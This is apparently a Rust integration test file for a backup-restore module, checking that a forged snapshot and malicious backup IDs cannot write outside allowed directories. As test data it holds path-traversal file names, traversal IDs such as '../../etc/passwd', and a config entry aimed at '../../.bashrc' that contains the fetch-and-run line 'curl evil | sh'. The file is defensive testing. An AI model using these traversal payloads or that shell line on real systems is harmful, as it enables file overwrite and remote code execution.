//! # Hostile Snapshot
//!
//! A forged artifact dropped into the backup directory. Restore must write
//! only what stays inside each area and the config allow-list, reporting the
//! rest as per-file errors instead of aborting.

#[cfg(test)]
mod tests {
    use crate::integration::fixtures::{read_tree, start_vault};
    use base64::engine::general_purpose::STANDARD;
    use base64::Engine as _;
    use rv_03_backup::{BackupError, RestoreOptions};
    use serde_json::json;
    use shared_types::{Actor, ErrorClass};

    const FORGED_ID: &str = "backup-2099-01-01T00-00-00-000Z";

    fn forged_snapshot() -> serde_json::Value {
        let payload = STANDARD.encode(b"planted");
        json!({
            "metadata": {
                "timestamp": "2099-01-01T00:00:00.000Z",
                "version": "1.0",
                "description": "totally legitimate",
                "includedPaths": ["students", "etc"],
                "configFiles": ["config.json", "../../.bashrc"]
            },
            "storage": {
                "students": {
                    "2021": {
                        "ok.json": {"fine": true},
                        "../../escape.json": {"pwned": true},
                        "photo.png": {
                            "type": "file",
                            "data": payload,
                            "originalPath": "../outside.png"
                        },
                        "cross.bin": {
                            "type": "file",
                            "data": payload,
                            "originalPath": "events/2024/planted.bin"
                        },
                        "abs.bin": {
                            "type": "file",
                            "data": payload,
                            "originalPath": "/tmp/planted.bin"
                        }
                    },
                    "..": {"up.json": {"pwned": true}}
                },
                "etc": {"passwd.json": {"root": "x"}}
            },
            "data": null,
            "config": {
                "config.json": "{\"restored\":true}",
                "../../.bashrc": "curl evil | sh"
            }
        })
    }

    #[tokio::test]
    async fn test_forged_snapshot_contained() {
        let (dir, ctx) = start_vault().await;
        let root = ctx.storage().root().to_path_buf();
        let backups = ctx.backups();
        std::fs::write(
            backups.config().backup_dir.join(format!("{FORGED_ID}.zip")),
            serde_json::to_vec(&forged_snapshot()).unwrap(),
        )
        .unwrap();

        let options = RestoreOptions {
            skip_pre_restore_backup: true,
            ..RestoreOptions::default()
        };
        let report = backups
            .restore_backup(&Actor::new("u-1", "admin"), FORGED_ID, options)
            .await
            .unwrap();

        // ok.json and config.json only.
        assert_eq!(report.files_written, 2, "errors: {:?}", report.errors);
        assert!(report.errors.len() >= 6, "errors: {:?}", report.errors);
        assert!(!report.is_complete());

        let students = read_tree(&root.join("students"));
        assert_eq!(students.keys().collect::<Vec<_>>(), vec!["2021/ok.json"]);
        assert!(read_tree(&root.join("events")).is_empty());
        assert!(!root.join("etc").exists());
        assert!(!root.join("outside.png").exists());
        assert!(!root.join("escape.json").exists());
        assert!(!dir.path().join("up.json").exists());
        assert!(!std::path::Path::new("/tmp/planted.bin").exists());

        assert_eq!(
            std::fs::read(dir.path().join("conf/config.json")).unwrap(),
            b"{\"restored\":true}"
        );
        assert!(!dir.path().join(".bashrc").exists());

        ctx.shutdown().await.unwrap();
    }

    #[tokio::test]
    async fn test_traversal_in_backup_id_refused() {
        let (_dir, ctx) = start_vault().await;
        let admin = Actor::system();

        for id in [
            "../../etc/passwd",
            "backup-../../secrets",
            "backup-2024/../../x",
            "snapshot-2024",
        ] {
            let err = ctx
                .backups()
                .restore_backup(&admin, id, RestoreOptions::default())
                .await
                .unwrap_err();
            assert!(matches!(err, BackupError::InvalidId { .. }), "{id}: {err:?}");
            assert_eq!(err.class(), ErrorClass::Validation);

            let err = ctx.backups().delete_backup(&admin, id).await.unwrap_err();
            assert!(matches!(err, BackupError::InvalidId { .. }), "{id}: {err:?}");
        }
        ctx.shutdown().await.unwrap();
    }

    #[tokio::test]
    async fn test_garbage_artifact_is_invalid_not_fatal() {
        let (_dir, ctx) = start_vault().await;
        let id = "backup-2099-02-02T00-00-00-000Z";
        std::fs::write(
            ctx.backups().config().backup_dir.join(format!("{id}.zip")),
            b"PK\x03\x04 definitely a zip",
        )
        .unwrap();

        let err = ctx.backups().verify_backup(id).await.unwrap_err();
        assert!(matches!(err, BackupError::InvalidSnapshot { .. }));

        // Listing still works and reports the artifact as unreadable.
        let listed = ctx.backups().list_backups().await.unwrap();
        assert_eq!(listed.len(), 1);
        assert!(listed[0].metadata.is_none());
        ctx.shutdown().await.unwrap();
    }
}
